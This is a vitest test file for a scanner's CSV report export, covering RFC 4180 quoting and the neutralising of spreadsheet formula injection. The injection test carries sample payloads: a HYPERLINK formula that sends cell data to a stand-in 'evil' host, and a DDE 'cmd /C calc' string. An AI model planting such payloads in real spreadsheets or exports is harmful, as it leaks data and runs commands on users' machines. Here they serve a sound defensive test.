import { describe, expect, it } from 'vitest';
import { CSV_REPORT_COLUMNS, renderReport, type ReportInput } from '../src/index';
import { filtersReportInput, finding, scanReportInput } from './report-fixture';

const render = (input: ReportInput): string => renderReport(input, 'csv').content.toString('utf8');

/** A strict RFC 4180 reader for the tests: records end with CRLF, quoted fields may hold anything. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let i = 0;
  while (i < text.length) {
    let field = '';
    if (text[i] === '"') {
      i += 1;
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quoted field');
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            field += '"';
            i += 2;
            continue;
          }
          i += 1;
          break;
        }
        field += text[i];
        i += 1;
      }
    } else {
      while (i < text.length && text[i] !== ',' && text[i] !== '\r') {
        if (text[i] === '\n' || text[i] === '"') throw new Error(`bare ${JSON.stringify(text[i])} at ${i}`);
        field += text[i];
        i += 1;
      }
    }
    record.push(field);
    if (text[i] === ',') {
      i += 1;
    } else if (text.startsWith('\r\n', i)) {
      records.push(record);
      record = [];
      i += 2;
    } else {
      throw new Error(`expected , or CRLF at ${i}`);
    }
  }
  if (record.length > 0) throw new Error('last record does not end with CRLF');
  return records;
}

describe('CSV report', () => {
  it('has a header record and one record per finding, in report order, CRLF-terminated', () => {
    const text = render(scanReportInput());
    expect(text.startsWith(`${CSV_REPORT_COLUMNS.join(',')}\r\n`)).toBe(true);
    expect(text.endsWith('\r\n')).toBe(true);
    const records = parseCsv(text);
    expect(records).toHaveLength(8);
    for (const record of records) expect(record).toHaveLength(CSV_REPORT_COLUMNS.length);
    const rows = records
      .slice(1)
      .map((record) => Object.fromEntries(CSV_REPORT_COLUMNS.map((c, i) => [c, record[i]])));
    expect(rows.map((row) => row.severity)).toEqual([
      'critical',
      'high',
      'medium',
      'medium',
      'low',
      'low',
      'info',
    ]);
    expect(rows[0]).toEqual({
      id: 'fnd_01',
      severity: 'critical',
      title: 'Redis accessible without authentication',
      check_id: 'redis.unauthenticated',
      cwe: 'CWE-306',
      status: 'open',
      target_id: 'tgt_1',
      target: 'shop.acme.example',
      port: '6379',
      description: 'Redis on port 6379 answered PING with +PONG without authentication.',
      remediation:
        'Require authentication (ACL users or requirepass), bind Redis to private interfaces only, and firewall the port from the internet.',
      evidence:
        '{"address":"192.0.2.10:6379","info":{"mode":"standalone","redis_version":"7.2.4"},"reply":"+PONG"}',
      fingerprint: 'fp-redis-6379',
      first_seen: '2026-01-10T08:00:00.000Z',
      last_seen: '2026-01-15T10:04:00.000Z',
    });
    // Fields with commas are quoted; quotes inside are doubled.
    expect(text).toContain(',"Require authentication (ACL users or requirepass), bind Redis');
    expect(text).toContain(',"{""address"":""192.0.2.10:6379"",""info"":{');
  });

  it('writes an empty port for a portless finding', () => {
    const records = parseCsv(render(filtersReportInput()));
    const portColumn = CSV_REPORT_COLUMNS.indexOf('port');
    expect(records.slice(1).map((record) => record[portColumn])).toEqual(['21', '', '21']);
  });

  it('quotes fields with commas, quotes and line breaks, and round-trips them', () => {
    const input = scanReportInput();
    const description = 'line one, with comma\r\nline "two"\nline three\rend';
    input.findings = [finding({ id: 'x', description, title: 'He said "hi"' })];
    const text = render(input);
    expect(text).toContain(',"He said ""hi""",');
    expect(text).toContain('"line one, with comma\r\nline ""two""\nline three\rend"');
    const [, row] = parseCsv(text);
    expect(row?.[CSV_REPORT_COLUMNS.indexOf('description')]).toBe(description);
    expect(row?.[CSV_REPORT_COLUMNS.indexOf('title')]).toBe('He said "hi"');
  });

  it.each([
    ['=HYPERLINK("http://evil/?"&A1,"click")', `"'=HYPERLINK(""http://evil/?""&A1,""click"")"`],
    ['+1+cmd|" /C calc"!A0', `"'+1+cmd|"" /C calc""!A0"`],
    ['-2+3', `'-2+3`],
    ['@SUM(1+1)', `'@SUM(1+1)`],
    ['\t=1+1', `'\t=1+1`],
    ['\r=1+1', `"'\r=1+1"`],
  ])('neutralises the formula %j', (title, cell) => {
    const input = scanReportInput();
    input.findings = [
      finding({ id: 'x', title, description: title, targetValue: title, fingerprint: title }),
    ];
    const text = render(input);
    const [, row] = parseCsv(text);
    for (const column of ['title', 'description', 'target', 'fingerprint'] as const) {
      expect(row?.[CSV_REPORT_COLUMNS.indexOf(column)]).toBe(`'${title}`);
    }
    expect(text).toContain(`,${cell},`);
  });

  it('leaves ordinary cells alone, including ones with a formula character later on', () => {
    const input = scanReportInput();
    input.findings = [finding({ id: 'x', title: 'a=b+c-d@e', description: ' =leading space' })];
    const [, row] = parseCsv(render(input));
    expect(row?.[CSV_REPORT_COLUMNS.indexOf('title')]).toBe('a=b+c-d@e');
    expect(row?.[CSV_REPORT_COLUMNS.indexOf('description')]).toBe(' =leading space');
  });

  it('is only the header when there are no findings', () => {
    expect(render({ ...scanReportInput(), findings: [] })).toBe(`${CSV_REPORT_COLUMNS.join(',')}\r\n`);
  });
});
